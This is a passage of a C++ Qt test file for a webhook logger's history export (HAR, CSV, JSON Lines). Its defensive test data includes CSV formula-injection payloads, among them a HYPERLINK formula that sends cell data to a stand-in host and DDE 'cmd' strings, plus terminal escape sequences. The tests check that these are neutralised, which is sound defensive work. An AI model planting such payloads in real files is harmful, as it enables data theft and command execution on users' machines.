// Tests for exporting the history (HAR 1.2 checked against its schema, CSV read back by an
// RFC 4180 reader, JSON Lines) and for "copy as curl", replayed by /bin/sh against a real receiver.
#include "core/base/savetofile.h"
#include "core/base/terminaltext.h"
#include "core/history/curlcommand.h"
#include "core/history/requestexport.h"
#include "sqltestsupport.h"
#include "testsupport.h"

#include <QBuffer>
#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

using namespace Hooktrail;
using namespace Hooktrail::TestSupport;
using namespace Qt::StringLiterals;

namespace {

// A JSON Schema validator for the keywords the HAR schema uses: $ref (to #/definitions),
// type, enum, minimum, format (date-time, uri), required, properties, patternProperties,
// additionalProperties, items and oneOf. Returns every problem, each with its JSON path.
class SchemaValidator
{
public:
    explicit SchemaValidator(QJsonObject root) : m_root(std::move(root)) { }

    QStringList validate(const QJsonValue &value) const
    {
        QStringList problems;
        check(value, m_root, u"$"_s, problems);
        return problems;
    }

private:
    static bool hasType(const QJsonValue &value, const QString &type)
    {
        if (type == u"object"_s)
            return value.isObject();
        if (type == u"array"_s)
            return value.isArray();
        if (type == u"string"_s)
            return value.isString();
        if (type == u"number"_s)
            return value.isDouble();
        if (type == u"integer"_s)
            return value.isDouble() && value.toDouble() == std::floor(value.toDouble());
        if (type == u"boolean"_s)
            return value.isBool();
        if (type == u"null"_s)
            return value.isNull();
        return false;
    }

    static bool hasFormat(const QString &text, const QString &format)
    {
        if (format == u"date-time"_s) {
            // ISO 8601 with a date, a time and a zone (Z or an offset).
            static const QRegularExpression shape(
                u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d+)?(Z|[+-]\\d\\d:\\d\\d)$"_s);
            return shape.match(text).hasMatch()
                && QDateTime::fromString(text, Qt::ISODateWithMs).isValid();
        }
        if (format == u"uri"_s) {
            const QUrl url(text, QUrl::StrictMode);
            return url.isValid() && !url.scheme().isEmpty() && !url.host().isEmpty();
        }
        return true;
    }

    QJsonObject resolve(const QString &reference) const
    {
        const QString prefix = u"#/definitions/"_s;
        if (!reference.startsWith(prefix))
            return {};
        return m_root.value(u"definitions"_s)
            .toObject()
            .value(reference.mid(prefix.size()))
            .toObject();
    }

    void check(const QJsonValue &value, const QJsonObject &schema, const QString &path,
        QStringList &problems) const
    {
        if (schema.contains(u"$ref"_s)) {
            const QJsonObject target = resolve(schema.value(u"$ref"_s).toString());
            if (target.isEmpty())
                problems << path + u": unresolved $ref "_s + schema.value(u"$ref"_s).toString();
            else
                check(value, target, path, problems);
            return;
        }
        if (schema.contains(u"oneOf"_s)) {
            int matches = 0;
            for (const QJsonValue &option : schema.value(u"oneOf"_s).toArray()) {
                QStringList optionProblems;
                check(value, option.toObject(), path, optionProblems);
                matches += optionProblems.isEmpty() ? 1 : 0;
            }
            if (matches != 1)
                problems << path
                        + u": matches %1 of the oneOf schemas, not exactly one"_s.arg(matches);
        }
        if (schema.contains(u"type"_s)) {
            const QJsonValue type = schema.value(u"type"_s);
            QStringList types;
            if (type.isArray()) {
                for (const QJsonValue &name : type.toArray())
                    types << name.toString();
            } else {
                types << type.toString();
            }
            if (std::none_of(types.begin(), types.end(),
                    [&](const QString &name) { return hasType(value, name); })) {
                problems << path + u": expected "_s + types.join(u" or "_s);
                return;
            }
        }
        if (schema.contains(u"enum"_s) && !schema.value(u"enum"_s).toArray().contains(value))
            problems << path + u": not one of the allowed values"_s;
        if (schema.contains(u"minimum"_s) && value.isDouble()
            && value.toDouble() < schema.value(u"minimum"_s).toDouble())
            problems << path
                    + u": below the minimum %1"_s.arg(schema.value(u"minimum"_s).toDouble());
        if (schema.contains(u"format"_s) && value.isString()
            && !hasFormat(value.toString(), schema.value(u"format"_s).toString()))
            problems << path + u": not a valid "_s + schema.value(u"format"_s).toString();
        if (value.isObject()) {
            const QJsonObject object = value.toObject();
            for (const QJsonValue &name : schema.value(u"required"_s).toArray()) {
                if (!object.contains(name.toString()))
                    problems << path + u": missing required property "_s + name.toString();
            }
            const QJsonObject properties = schema.value(u"properties"_s).toObject();
            const QJsonObject patterns = schema.value(u"patternProperties"_s).toObject();
            for (auto it = object.begin(); it != object.end(); ++it) {
                const QString childPath = path + u'.' + it.key();
                if (properties.contains(it.key())) {
                    check(it.value(), properties.value(it.key()).toObject(), childPath, problems);
                    continue;
                }
                bool matched = false;
                for (auto pattern = patterns.begin(); pattern != patterns.end(); ++pattern) {
                    if (QRegularExpression(pattern.key()).match(it.key()).hasMatch()) {
                        check(it.value(), pattern.value().toObject(), childPath, problems);
                        matched = true;
                    }
                }
                if (!matched && schema.value(u"additionalProperties"_s) == QJsonValue(false))
                    problems << childPath + u": not allowed here (custom fields start with _)"_s;
            }
        }
        if (value.isArray() && schema.contains(u"items"_s)) {
            const QJsonArray array = value.toArray();
            for (qsizetype i = 0; i < array.size(); ++i)
                check(array.at(i), schema.value(u"items"_s).toObject(), path + u"[%1]"_s.arg(i),
                    problems);
        }
    }

    QJsonObject m_root;
};

SchemaValidator harValidator()
{
    QFile file(QFINDTESTDATA("data/har-1.2.schema.json"));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("cannot read tests/data/har-1.2.schema.json");
    return SchemaValidator(QJsonDocument::fromJson(file.readAll()).object());
}

// RFC 4180: records end with CRLF; a field is quoted when it holds a comma, quote, CR or LF,
// with quotes doubled inside. Anything else (a stray quote, a bare LF, an unterminated field)
// makes the whole document invalid: nullopt.
std::optional<QList<QStringList>> readCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false; // inside a quoted field
    bool wasQuoted = false; // the current field was quoted (and its closing quote seen)
    bool fieldStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                    wasQuoted = true;
                }
            } else {
                field += c;
            }
            continue;
        }
        if (c == u',') {
            record << field;
            field.clear();
            wasQuoted = fieldStarted = false;
        } else if (c == u'\r') {
            if (i + 1 >= text.size() || text.at(i + 1) != u'\n')
                return std::nullopt;
            ++i;
            record << field;
            records << record;
            record.clear();
            field.clear();
            wasQuoted = fieldStarted = false;
        } else if (c == u'\n') {
            return std::nullopt; // a line break outside quotes is CRLF
        } else if (c == u'"') {
            if (fieldStarted || wasQuoted)
                return std::nullopt; // a quote inside an unquoted field
            quoted = true;
            fieldStarted = true;
        } else {
            if (wasQuoted)
                return std::nullopt; // text after the closing quote
            field += c;
            fieldStarted = true;
        }
    }
    if (quoted || !field.isEmpty() || !record.isEmpty())
        return std::nullopt; // the last record must end with CRLF too
    return records;
}

const QString WebhookA = u"aaaaaaaa-0000-4000-8000-000000000001"_s;

LoggedRequest baseEntry(qint64 receivedAt)
{
    LoggedRequest entry;
    entry.receivedAtMicros = receivedAt;
    entry.webhookId = WebhookA;
    entry.method = "POST"_ba;
    entry.path = "/v1/data/webhook/"_ba + WebhookA.toLatin1();
    entry.httpVersion = "HTTP/1.1"_ba;
    entry.clientAddress = u"203.0.113.9"_s;
    entry.status = 200;
    entry.reason = "accepted"_ba;
    entry.handlingMicros = 1234;
    entry.instance = u"127.0.0.1:8484"_s;
    return entry;
}

// Rows with everything that is hard to export: separators inside values, binary bodies, no
// body, no webhook, a truncated body, a form body.
QList<LoggedRequest> awkwardRows()
{
    QList<LoggedRequest> rows;
    LoggedRequest json = baseEntry(1'700'000'000'123'456);
    json.query = "api-key=***&a=1%202&b=x+y&flag"_ba;
    json.headers
        = { { "Host"_ba, "127.0.0.1:8484"_ba }, { "Content-Type"_ba, "application/json"_ba },
              { "X-Note"_ba, "x, \"y\""_ba }, { "X-Api-Key"_ba, "***"_ba } };
    json.body = "{\"note\":\"a, \\\"quoted\\\"\\nline2\",\"raw\":\"x\ny\r\nz\"}"_ba;
    json.bodySize = json.body.size();
    json.contentType = "application/json"_ba;
    json.reasonDetail = u"detail, with \"quotes\"\nand a second line"_s;
    rows << json;

    LoggedRequest binary = baseEntry(1'700'000'001'000'000);
    binary.headers = { { "Host"_ba, "example.test"_ba },
        { "Content-Type"_ba, "application/octet-stream"_ba } };
    binary.body = QByteArray::fromHex("00fffe80") + "abc,\"\r\n"_ba;
    binary.bodySize = binary.body.size();
    binary.contentType = "application/octet-stream"_ba;
    binary.status = 415;
    binary.reason = "unsupported_media_type"_ba;
    rows << binary;

    LoggedRequest empty = baseEntry(1'700'000'002'000'000);
    empty.webhookId.clear();
    empty.method = "GET"_ba;
    empty.path = "/nowhere"_ba;
    empty.headers = { { "User-Agent"_ba, "probe"_ba } };
    empty.forwardedFor = u"198.51.100.7"_s;
    empty.status = 404;
    empty.reason = "unknown_route"_ba;
    rows << empty;

    LoggedRequest truncated = baseEntry(1'700'000'003'000'000);
    truncated.headers
        = { { "Host"_ba, "127.0.0.1:8484"_ba }, { "Content-Type"_ba, "application/xml"_ba } };
    truncated.body = "<order id=\"1\">caf\xc3\xa9</order>"_ba;
    truncated.bodySize = 20'000'000;
    truncated.bodyTruncated = true;
    truncated.contentType = "application/xml"_ba;
    rows << truncated;

    LoggedRequest form = baseEntry(1'700'000'004'000'000);
    form.headers = { { "Host"_ba, "127.0.0.1:8484"_ba },
        { "Content-Type"_ba, "application/x-www-form-urlencoded"_ba } };
    form.body = "a=1&b=%C3%A9+x"_ba;
    form.bodySize = form.body.size();
    form.contentType = "application/x-www-form-urlencoded"_ba;
    rows << form;
    return rows;
}

// The headers a replay must carry as the original did: all but those curl computes itself.
HeaderList headersThatMatter(const HeaderList &headers)
{
    HeaderList out;
    for (const auto &header : headers) {
        const QByteArray name = header.first.toLower();
        if (name != "host" && name != "content-length" && name != "connection")
            out.append(header);
    }
    return out;
}

} // namespace

class tst_Export : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();

    void formatFromName_data();
    void formatFromName();

    void schemaValidatorRejects_data();
    void schemaValidatorRejects();
    void harValidatesAgainstSchema();
    void harEntryContent();
    void csvRoundTrips();
    void csvNeutralisesFormulas_data();
    void csvNeutralisesFormulas();
    void terminalTextNeutralises_data();
    void terminalTextNeutralises();
    void jsonLinesHaveEveryField();
    void pagesProgressAndCancel_data();
    void pagesProgressAndCancel();
    void exportsExactlyTheIds();
    void exportFollowsTheFilter();
    void savedWholeAndPrivateOrNotAtAll();

    void curlCommandText_data();
    void curlCommandText();
    void secretsStayRedacted();
    void curlReplaysTheRequest_data();
    void curlReplaysTheRequest();
    void curlQuotesEveryByte_data();
    void curlQuotesEveryByte();

private:
    QByteArray exportAll(RequestExport::Format format, const RequestFilter &filter = {},
        const QList<qint64> &ids = {});

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Store> m_store;
    QList<LoggedRequest> m_rows; // as appended, ids set
};

void tst_Export::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
}

void tst_Export::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    auto opened = Store::openSqlite(m_dir->filePath(u"hooktrail.db"_s));
    VERIFY_OK(opened);
    m_store = std::move(opened).value();
    m_rows = awkwardRows();
    VERIFY_OK(m_store->log().append(m_rows));
}

void tst_Export::cleanup()
{
    m_store.reset();
    m_dir.reset();
}

QByteArray tst_Export::exportAll(
    RequestExport::Format format, const RequestFilter &filter, const QList<qint64> &ids)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Status status = RequestExport::write(*m_store, format, filter, ids, buffer);
    if (!status)
        qWarning("export failed: %s", qPrintable(status.error()));
    return status ? buffer.data() : QByteArray();
}

void tst_Export::formatFromName_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<int>("format"); // -1: none
    QTest::newRow("har") << u"har"_s << int(RequestExport::Format::Har);
    QTest::newRow("jsonl") << u"jsonl"_s << int(RequestExport::Format::Jsonl);
    QTest::newRow("csv") << u"csv"_s << int(RequestExport::Format::Csv);
    QTest::newRow("capitals") << u"HAR"_s << int(RequestExport::Format::Har);
    QTest::newRow("json") << u"json"_s << -1;
    QTest::newRow("empty") << QString() << -1;
}

void tst_Export::formatFromName()
{
    QFETCH(QString, name);
    QFETCH(int, format);
    const std::optional<RequestExport::Format> parsed = RequestExport::formatFromName(name);
    QCOMPARE(parsed ? int(*parsed) : -1, format);
}

void tst_Export::schemaValidatorRejects_data()
{
    // Each row breaks a valid export in one way; the validator must notice.
    QTest::addColumn<QString>(
        "path"); // where to change, dot-separated; entries.0 is the first entry
    QTest::addColumn<QJsonValue>("value"); // undefined: remove the field
    QTest::addColumn<QString>("problem");

    QTest::newRow("no version") << u"log.version"_s << QJsonValue(QJsonValue::Undefined)
                                << u"missing required property version"_s;
    QTest::newRow("wrong version")
        << u"log.version"_s << QJsonValue(u"1.1"_s) << u"not one of the allowed values"_s;
    QTest::newRow("no creator name") << u"log.creator.name"_s << QJsonValue(QJsonValue::Undefined)
                                     << u"missing required property name"_s;
    QTest::newRow("entries not an array")
        << u"log.entries"_s << QJsonValue(QJsonObject()) << u"expected array"_s;
    QTest::newRow("time as text") << u"log.entries.0.time"_s << QJsonValue(u"12"_s)
                                  << u"expected number"_s;
    QTest::newRow("negative time")
        << u"log.entries.0.time"_s << QJsonValue(-3) << u"below the minimum"_s;
    QTest::newRow("local date-time")
        << u"log.entries.0.startedDateTime"_s << QJsonValue(u"2023-11-14 22:13:20"_s)
        << u"not a valid date-time"_s;
    QTest::newRow("no request headers")
        << u"log.entries.0.request.headers"_s << QJsonValue(QJsonValue::Undefined)
        << u"missing required property headers"_s;
    QTest::newRow("header value a number")
        << u"log.entries.0.request.headers.0.value"_s << QJsonValue(7) << u"expected string"_s;
    QTest::newRow("fractional bodySize")
        << u"log.entries.0.request.bodySize"_s << QJsonValue(1.5) << u"expected integer"_s;
    QTest::newRow("no timings.send")
        << u"log.entries.0.timings.send"_s << QJsonValue(QJsonValue::Undefined)
        << u"missing required property send"_s;
    QTest::newRow("custom field without _")
        << u"log.entries.0.requestId"_s << QJsonValue(1) << u"not allowed here"_s;
    QTest::newRow("relative url") << u"log.entries.0.request.url"_s << QJsonValue(u"/v1/data"_s)
                                  << u"not a valid uri"_s;
    QTest::newRow("no content mimeType")
        << u"log.entries.0.response.content.mimeType"_s << QJsonValue(QJsonValue::Undefined)
        << u"missing required property mimeType"_s;
    QTest::newRow("cache not an object")
        << u"log.entries.0.cache"_s << QJsonValue(QJsonArray()) << u"expected object"_s;
}

namespace {
// Sets (or removes, with an undefined value) the value at a dot path in a JSON document.
QJsonValue edited(const QJsonValue &node, QStringList path, const QJsonValue &value)
{
    if (path.isEmpty())
        return value;
    const QString key = path.takeFirst();
    if (node.isArray()) {
        QJsonArray array = node.toArray();
        const int index = key.toInt();
        array[index] = edited(array.at(index), path, value);
        return array;
    }
    QJsonObject object = node.toObject();
    if (path.isEmpty() && value.isUndefined())
        object.remove(key);
    else
        object.insert(key, edited(object.value(key), path, value));
    return object;
}
} // namespace

void tst_Export::schemaValidatorRejects()
{
    QFETCH(QString, path);
    QFETCH(QJsonValue, value);
    QFETCH(QString, problem);
    const QJsonObject valid
        = QJsonDocument::fromJson(exportAll(RequestExport::Format::Har)).object();
    const SchemaValidator validator = harValidator();
    QVERIFY(validator.validate(valid).isEmpty());

    const QJsonValue broken = edited(valid, path.split(u'.'), value);
    const QStringList problems = validator.validate(broken);
    QVERIFY2(problems.join(u'\n').contains(problem), qPrintable(problems.join(u'\n')));
}

void tst_Export::harValidatesAgainstSchema()
{
    const QByteArray har = exportAll(RequestExport::Format::Har);
    QJsonParseError error;
    const QJsonDocument document = QJsonDocument::fromJson(har, &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    const QStringList problems = harValidator().validate(document.object());
    QVERIFY2(problems.isEmpty(), qPrintable(problems.join(u'\n')));

    const QJsonObject log = document.object().value(u"log"_s).toObject();
    QCOMPARE(log.value(u"version"_s).toString(), u"1.2"_s);
    QCOMPARE(log.value(u"creator"_s).toObject().value(u"name"_s).toString(), u"Hooktrail"_s);
    QCOMPARE(log.value(u"creator"_s).toObject().value(u"version"_s).toString(),
        QStringLiteral(HOOKTRAIL_VERSION));
    const QJsonArray entries = log.value(u"entries"_s).toArray();
    QCOMPARE(entries.size(), m_rows.size());
    // Newest first, like the history.
    for (qsizetype i = 0; i < entries.size(); ++i)
        QCOMPARE(entries.at(i).toObject().value(u"_requestId"_s).toInteger(),
            m_rows.at(m_rows.size() - 1 - i).id);

    // An empty log is a valid HAR too.
    RequestFilter none;
    none.reason = "no_such_reason";
    const QJsonDocument empty
        = QJsonDocument::fromJson(exportAll(RequestExport::Format::Har, none));
    QVERIFY(harValidator().validate(empty.object()).isEmpty());
    QVERIFY(empty.object().value(u"log"_s).toObject().value(u"entries"_s).toArray().isEmpty());
}

void tst_Export::harEntryContent()
{
    const QJsonArray entries = QJsonDocument::fromJson(exportAll(RequestExport::Format::Har))
                                   .object()
                                   .value(u"log"_s)
                                   .toObject()
                                   .value(u"entries"_s)
                                   .toArray();
    QHash<qint64, QJsonObject> byId;
    for (const QJsonValue &entry : entries)
        byId.insert(entry.toObject().value(u"_requestId"_s).toInteger(), entry.toObject());

    const LoggedRequest &json = m_rows.at(0);
    QJsonObject entry = byId.value(json.id);
    QCOMPARE(entry.value(u"startedDateTime"_s).toString(), u"2023-11-14T22:13:20.123456Z"_s);
    QCOMPARE(entry.value(u"time"_s).toDouble(), 1.234);
    QCOMPARE(entry.value(u"timings"_s).toObject().value(u"wait"_s).toDouble(), 1.234);
    QCOMPARE(entry.value(u"_webhookId"_s).toString(), WebhookA);
    QCOMPARE(entry.value(u"_reason"_s).toString(), u"accepted"_s);
    QCOMPARE(entry.value(u"_clientAddress"_s).toString(), u"203.0.113.9"_s);
    QJsonObject request = entry.value(u"request"_s).toObject();
    QCOMPARE(request.value(u"method"_s).toString(), u"POST"_s);
    QCOMPARE(request.value(u"url"_s).toString(),
        u"http://127.0.0.1:8484/v1/data/webhook/"_s + WebhookA
            + u"?api-key=***&a=1%202&b=x+y&flag"_s);
    QCOMPARE(request.value(u"httpVersion"_s).toString(), u"HTTP/1.1"_s);
    const QJsonArray query = request.value(u"queryString"_s).toArray();
    const auto pair = [](const QString &name, const QString &value) {
        return QJsonObject { { u"name"_s, name }, { u"value"_s, value } };
    };
    QCOMPARE(query,
        (QJsonArray { pair(u"api-key"_s, u"***"_s), pair(u"a"_s, u"1 2"_s), pair(u"b"_s, u"x y"_s),
            pair(u"flag"_s, QString()) }));
    QJsonArray headers;
    for (const auto &[name, value] : json.headers)
        headers.append(pair(QString::fromUtf8(name), QString::fromUtf8(value)));
    QCOMPARE(request.value(u"headers"_s).toArray(), headers);
    QCOMPARE(request.value(u"bodySize"_s).toInteger(), json.bodySize);
    QJsonObject postData = request.value(u"postData"_s).toObject();
    QCOMPARE(postData.value(u"mimeType"_s).toString(), u"application/json"_s);
    QCOMPARE(postData.value(u"text"_s).toString(), QString::fromUtf8(json.body));
    QVERIFY(!postData.contains(u"_bodyEncoding"_s));
    QJsonObject response = entry.value(u"response"_s).toObject();
    QCOMPARE(response.value(u"status"_s).toInt(), 200);
    QCOMPARE(response.value(u"statusText"_s).toString(), u"OK"_s);
    const QJsonObject content = response.value(u"content"_s).toObject();
    QCOMPARE(content.value(u"mimeType"_s).toString(), u"application/json"_s);
    const QByteArray answer = "{\"status\":\"accepted\",\"reason\":\"accepted\",\"requestId\":"
        + QByteArray::number(json.id) + '}';
    QCOMPARE(content.value(u"text"_s).toString().toUtf8(), answer);
    QCOMPARE(content.value(u"size"_s).toInteger(), answer.size());

    const LoggedRequest &binary = m_rows.at(1);
    entry = byId.value(binary.id);
    request = entry.value(u"request"_s).toObject();
    QCOMPARE(
        request.value(u"url"_s).toString(), u"http://example.test/v1/data/webhook/"_s + WebhookA);
    postData = request.value(u"postData"_s).toObject();
    QCOMPARE(postData.value(u"_bodyEncoding"_s).toString(), u"base64"_s);
    QCOMPARE(QByteArray::fromBase64(postData.value(u"text"_s).toString().toLatin1()), binary.body);
    response = entry.value(u"response"_s).toObject();
    QCOMPARE(response.value(u"status"_s).toInt(), 415);
    QCOMPARE(response.value(u"statusText"_s).toString(), u"Unsupported Media Type"_s);
    QCOMPARE(QJsonDocument::fromJson(
                 response.value(u"content"_s).toObject().value(u"text"_s).toString().toUtf8())
                 .object(),
        (QJsonObject { { u"status"_s, u"rejected"_s }, { u"reason"_s, u"unsupported_media_type"_s },
            { u"requestId"_s, binary.id } }));

    entry = byId.value(m_rows.at(2).id);
    request = entry.value(u"request"_s).toObject();
    QCOMPARE(request.value(u"url"_s).toString(), u"http://127.0.0.1/nowhere"_s); // no Host header
    QVERIFY(!request.contains(u"postData"_s));
    QCOMPARE(request.value(u"bodySize"_s).toInteger(), 0);
    QVERIFY(entry.value(u"_webhookId"_s).isNull());
    QCOMPARE(entry.value(u"_forwardedFor"_s).toString(), u"198.51.100.7"_s);

    entry = byId.value(m_rows.at(3).id);
    postData = entry.value(u"request"_s).toObject().value(u"postData"_s).toObject();
    QCOMPARE(postData.value(u"_bodyTruncated"_s).toBool(), true);
    QCOMPARE(postData.value(u"text"_s).toString(), u"<order id=\"1\">café</order>"_s);
    QCOMPARE(entry.value(u"request"_s).toObject().value(u"bodySize"_s).toInteger(), 20'000'000);
}

void tst_Export::csvRoundTrips()
{
    const QByteArray csv = exportAll(RequestExport::Format::Csv);
    const std::optional<QList<QStringList>> records = readCsv(csv);
    QVERIFY2(records, csv.constData());
    QCOMPARE(records->size(), m_rows.size() + 1);
    const QStringList header = records->first();
    QCOMPARE(header,
        u"id receivedAt webhookId method path query status reason reasonDetail clientAddress "
        u"forwardedFor "
        "contentType bodySize bodyTruncated bodyEncoding body headers handlingMicros instance"_s
            .split(u' '));
    for (qsizetype r = 1; r < records->size(); ++r) {
        const QStringList &record = records->at(r);
        QCOMPARE(record.size(), header.size());
        QHash<QString, QString> field;
        for (qsizetype c = 0; c < header.size(); ++c)
            field.insert(header.at(c), record.at(c));
        const qint64 id = field.value(u"id"_s).toLongLong();
        const auto row = std::find_if(
            m_rows.begin(), m_rows.end(), [id](const LoggedRequest &e) { return e.id == id; });
        QVERIFY(row != m_rows.end());
        QCOMPARE(
            field.value(u"receivedAt"_s), LoggedRequest::formatTimestamp(row->receivedAtMicros));
        QCOMPARE(field.value(u"webhookId"_s), row->webhookId);
        QCOMPARE(field.value(u"method"_s), QString::fromUtf8(row->method));
        QCOMPARE(field.value(u"path"_s), QString::fromUtf8(row->path));
        QCOMPARE(field.value(u"query"_s), QString::fromUtf8(row->query));
        QCOMPARE(field.value(u"status"_s), QString::number(row->status));
        QCOMPARE(field.value(u"reason"_s), QString::fromLatin1(row->reason));
        QCOMPARE(field.value(u"reasonDetail"_s), row->reasonDetail);
        QCOMPARE(field.value(u"clientAddress"_s), row->clientAddress);
        QCOMPARE(field.value(u"forwardedFor"_s), row->forwardedFor);
        QCOMPARE(field.value(u"contentType"_s), QString::fromUtf8(row->contentType));
        QCOMPARE(field.value(u"bodySize"_s), QString::number(row->bodySize));
        QCOMPARE(field.value(u"bodyTruncated"_s), row->bodyTruncated ? u"true"_s : u"false"_s);
        QCOMPARE(field.value(u"handlingMicros"_s), QString::number(row->handlingMicros));
        QCOMPARE(field.value(u"instance"_s), row->instance);
        // The body exactly: as text, or base64 when it is not UTF-8.
        const QByteArray body = field.value(u"bodyEncoding"_s) == u"base64"_s
            ? QByteArray::fromBase64(field.value(u"body"_s).toLatin1())
            : field.value(u"body"_s).toUtf8();
        QCOMPARE(body, row->body);
        QCOMPARE(
            field.value(u"bodyEncoding"_s), row == m_rows.begin() + 1 ? u"base64"_s : u"utf8"_s);
        HeaderList headers;
        for (const QJsonValue &pair :
            QJsonDocument::fromJson(field.value(u"headers"_s).toUtf8()).array())
            headers.append({ pair[0].toString().toUtf8(), pair[1].toString().toUtf8() });
        QCOMPARE(headers, row->headers);
    }
    // The awkward values really were there to quote.
    QVERIFY(csv.contains(",\"{\"\"note\"\":\"\"a, \\\"\"quoted"));
    QVERIFY(csv.contains("detail, with \"\"quotes\"\"\nand a second line"));
}

void tst_Export::csvNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("column");
    QTest::addColumn<QByteArray>("value");
    // Each cell a spreadsheet would run, in each field a sender writes.
    const QList<QByteArray> formulas { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_ba,
        "+1+cmd|' /C calc'!A0"_ba, "-2+3"_ba, "@SUM(1+1)*cmd|' /C calc'!A0"_ba, "\t=1+1"_ba,
        "\r=1+1"_ba };
    for (const QByteArray &formula : formulas) {
        const QByteArray tag = formula.left(4).toHex();
        QTest::addRow("body %s", tag.constData()) << u"body"_s << formula;
        QTest::addRow("query %s", tag.constData()) << u"query"_s << formula;
        QTest::addRow("path %s", tag.constData()) << u"path"_s << formula;
        QTest::addRow("content type %s", tag.constData()) << u"contentType"_s << formula;
        QTest::addRow("detail %s", tag.constData()) << u"reasonDetail"_s << formula;
    }
    // Methods are HTTP tokens: + and - can start one.
    QTest::addRow("method +") << u"method"_s << "+SUM"_ba;
    QTest::addRow("method -") << u"method"_s << "-1"_ba;
}

void tst_Export::csvNeutralisesFormulas()
{
    QFETCH(QString, column);
    QFETCH(QByteArray, value);
    LoggedRequest request = baseEntry(1'700'000'000'000'000);
    request.id = 9;
    if (column == u"body"_s)
        request.body = value;
    else if (column == u"query"_s)
        request.query = value;
    else if (column == u"path"_s)
        request.path = value;
    else if (column == u"contentType"_s)
        request.contentType = value;
    else if (column == u"reasonDetail"_s)
        request.reasonDetail = QString::fromUtf8(value);
    else
        request.method = value;
    // The header cell is JSON: it starts with [ whatever the sender wrote.
    request.headers = { { "X-Formula"_ba, value } };
    const QByteArray row = RequestExport::csvRow(request);
    const std::optional<QList<QStringList>> records = readCsv(RequestExport::csvHeader() + row);
    QVERIFY2(records && records->size() == 2, row.constData());
    const QStringList header = records->first();
    const QStringList record = records->at(1);
    const QString cell = record.value(header.indexOf(column));
    // Text to a spreadsheet, the original after the quote, in a quoted field.
    QCOMPARE(cell, u"'"_s + QString::fromUtf8(value));
    QVERIFY2(row.contains(",\"'" + QByteArray(value).replace('"', "\"\"")), row.constData());
    QVERIFY(record.value(header.indexOf(u"headers"_s)).startsWith(u'['));
    // No other cell starts as a formula.
    for (const QString &other : record)
        QVERIFY2(other.isEmpty() || !QStringLiteral("=+-@\t\r").contains(other.front()),
            qPrintable(other));
}

void tst_Export::terminalTextNeutralises_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("shown");
    QTest::newRow("plain") << "id,body\r\n1,\"a\tb\"\n"_ba
                           << "id,body\r\n1,\"a\tb\"\n"_ba;
    QTest::newRow("clear screen") << "a\x1b[2Jb"_ba
                                  << "a\\u001b[2Jb"_ba;
    QTest::newRow("title and bell") << "\x1b]0;owned\x07"_ba
                                    << "\\u001b]0;owned\\u0007"_ba;
    QTest::newRow("bare CR rewrites the line") << "ok\rfake"_ba
                                               << "ok\\u000dfake"_ba;
    QTest::newRow("CR at the end") << "x\r"_ba
                                   << "x\\u000d"_ba;
    QTest::newRow("NUL, ^C, DEL") << "\0\x03\x7f"_ba
                                  << "\\u0000\\u0003\\u007f"_ba;
    QTest::newRow("C1 CSI in UTF-8") << "\xc2\x9b"
                                        "2J"_ba
                                     << "\\u009b"
                                        "2J"_ba;
    QTest::newRow("C1 NEL and OSC") << "\xc2\x85\xc2\x9d"_ba
                                    << "\\u0085\\u009d"_ba;
    QTest::newRow("other UTF-8 untouched") << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba
                                           << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba;
}

void tst_Export::terminalTextNeutralises()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, shown);
    QCOMPARE(TerminalText::neutralise(text), shown);
    QCOMPARE(TerminalText::neutralise(QString::fromUtf8(text)), QString::fromUtf8(shown));
    // JSON (where no raw control character is) reads back the same.
    const QString value = QString::fromUtf8(text);
    const QByteArray json = QJsonDocument(QJsonArray { value }).toJson(QJsonDocument::Compact);
    const QByteArray safe = TerminalText::neutralise(json);
    QCOMPARE(QJsonDocument::fromJson(safe).array().first().toString(), value);
    QVERIFY(std::none_of(safe.begin(), safe.end(), [](char c) { return c == 0x1b || c == 0; }));
}

void tst_Export::jsonLinesHaveEveryField()
{
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl);
    QVERIFY(jsonl.endsWith('\n'));
    const QList<QByteArray> lines = jsonl.chopped(1).split('\n');
    QCOMPARE(lines.size(), m_rows.size());
    for (qsizetype i = 0; i < lines.size(); ++i) {
        QJsonParseError error;
        const QJsonDocument document = QJsonDocument::fromJson(lines.at(i), &error);
        QCOMPARE(error.error, QJsonParseError::NoError);
        const LoggedRequest &row = m_rows.at(m_rows.size() - 1 - i);
        const Result<std::optional<LoggedRequest>> stored = m_store->queries().request(row.id);
        VERIFY_OK(stored);
        QCOMPARE(document.object(), (*stored)->toJson());
        QCOMPARE(document.object().size(), 20); // every field of DESIGN §3
        QCOMPARE(document.object().value(u"id"_s).toInteger(), row.id);
    }
}

void tst_Export::pagesProgressAndCancel_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<int>("cancelAfter"); // progress calls before cancelling; -1: never
    QTest::newRow("HAR") << int(RequestExport::Format::Har) << -1;
    QTest::newRow("JSON Lines") << int(RequestExport::Format::Jsonl) << -1;
    QTest::newRow("CSV") << int(RequestExport::Format::Csv) << -1;
